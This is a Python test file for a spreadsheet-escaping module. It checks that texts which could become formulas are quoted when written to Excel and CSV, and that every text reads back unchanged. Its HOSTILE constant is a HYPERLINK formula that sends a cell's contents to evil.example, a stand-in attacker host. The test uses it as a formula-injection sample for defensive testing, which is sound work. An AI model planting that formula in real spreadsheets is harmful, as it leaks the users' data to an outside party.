"""Texts written into spreadsheets cannot become formulas, and read back as they were."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tinnhiem import cells

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'


@pytest.mark.parametrize(
    "typed",
    [HOSTILE, "+84 912 345 678", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "'quoted"],
)
def test_a_text_a_spreadsheet_could_evaluate_gets_a_quote_and_comes_back(typed: str) -> None:
    written = cells.text(typed)
    assert written == "'" + typed
    assert cells.restore(written) == typed


@pytest.mark.parametrize("typed", ["Nguyễn Thị Lệ", "a=b", " =1", "", "84 912"])
def test_other_texts_are_written_and_read_as_they_are(typed: str) -> None:
    assert cells.text(typed) == typed
    assert cells.restore(typed) == typed


def test_a_quote_typed_in_a_sheet_before_a_letter_is_kept_on_reading() -> None:
    assert cells.restore("'Ngọc") == "'Ngọc"


@given(st.text())
def test_every_text_survives_the_round_trip(typed: str) -> None:
    assert cells.restore(cells.text(typed)) == typed


def test_a_workbook_holds_no_formula_error_code_or_control_character() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    cells.append(sheet, [HOSTILE, "#N/A", "Lê\x07 Văn", 12])
    sheet["A2"] = "=1+1"  # a writer that forgot cells.value: caught by finish
    read = load_workbook(io.BytesIO(cells.finish(book))).active
    assert read is not None
    row = read[1]
    assert [(c.value, c.data_type) for c in row] == [
        ("'" + HOSTILE, "s"),
        ("#N/A", "s"),
        ("Lê Văn", "s"),
        (12, "n"),
    ]
    assert (read["A2"].value, read["A2"].data_type) == ("'=1+1", "s")


def test_a_csv_field_that_could_be_a_formula_is_quoted() -> None:
    content = cells.csv_bytes([["Họ và tên"], [HOSTILE], ["-1"]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Họ và tên"], ["'" + HOSTILE], ["'-1"]]
